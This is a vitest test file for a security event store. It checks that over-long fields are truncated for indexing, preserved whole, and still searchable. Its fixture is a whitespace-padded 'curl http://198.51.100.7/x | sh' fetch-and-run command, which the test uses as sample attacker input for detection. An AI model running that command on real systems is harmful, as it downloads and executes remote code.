import { saveEvents } from "@mozdef/alert-store";
import {
  type Clause,
  compile,
  ExistsMatch,
  type FieldKinds,
  PhraseMatch,
  SearchQuery,
  TermMatch,
  WildcardMatch,
} from "@mozdef/query";
import { describe, expect, it } from "vitest";
import { documentsOf, NOW, openStore } from "./open-store.ts";

/** What an attacker would pad a command line with. */
const PADDED = `curl http://198.51.100.7/x ${" ".repeat(9_000)}| sh`;
const FOUND = PADDED.slice(0, 8_191);

const saved = async (event: object, fields: FieldKinds = {}) => {
  const store = await openStore({ fields });
  const [result] = await saveEvents(store, [event], { now: NOW, refresh: true });
  const [document] = await documentsOf(store, "events-20170101");
  const index = store.names.physical("events-20170101");
  const finds = async (clause: Clause) => {
    const { count } = await store.client.count({
      index,
      query: compile(SearchQuery().must(clause), { now: NOW }).query,
    });
    return count === 1;
  };
  return { result, source: document?._source ?? {}, finds };
};

describe("a text that is too long to be indexed", () => {
  it("is found by how it begins, and kept whole", async () => {
    const { result, source, finds } = await saved({ summary: "x", details: { command: PADDED, user: "bob" } });
    expect(result).toMatchObject({ ok: true, isInPart: true });
    expect(source).toMatchObject({ details: { command: FOUND, user: "bob" }, tags: ["unmapped"] });
    expect(JSON.parse(String(source.unmapped))).toEqual({ "details.command": PADDED });
    expect(await finds(TermMatch("details.command", FOUND))).toBe(true);
    expect(await finds(WildcardMatch("details.command", "curl*"))).toBe(true);
    expect(await finds(ExistsMatch("details.command"))).toBe(true);
  });

  it("is shortened in a list as well, and never inside a character", async () => {
    const long = `${"x".repeat(8_190)}😀 and more`;
    const { source } = await saved({ details: { args: ["short", long, long] } });
    expect(source.details).toEqual({ args: ["short", "x".repeat(8_190), "x".repeat(8_190)] });
    expect(JSON.parse(String(source.unmapped))).toEqual({ "details.args": ["short", long, long] });
  });

  it("stays as it is in the summary, where every word is found", async () => {
    const { result, source, finds } = await saved({ summary: PADDED });
    expect([result, source.summary]).toEqual([expect.objectContaining({ isInPart: false }), PADDED]);
    expect(await finds(PhraseMatch("summary", "sh"))).toBe(true);
  });

  it.each([
    ["an object", { details: { script: PADDED } }],
    ["a dotted name", { "details.script": PADDED }],
    ["a list", { details: { script: ["echo", PADDED] } }],
  ])("stays as it is in a text that a pack declares: %s", async (_, event) => {
    const { result, source, finds } = await saved({ summary: "x", ...event }, { "details.script": "text" });
    expect(result).toMatchObject({ ok: true, isInPart: false });
    expect(source).toMatchObject(event);
    expect(source).not.toHaveProperty("unmapped");
    expect(await finds(PhraseMatch("details.script", "sh"))).toBe(true);
  });

  it("is shortened in a field that a pack declares as another kind", async () => {
    const { source } = await saved({ details: { script: PADDED } }, { "details.script": "keyword" });
    expect(source.details).toEqual({ script: FOUND });
  });
});
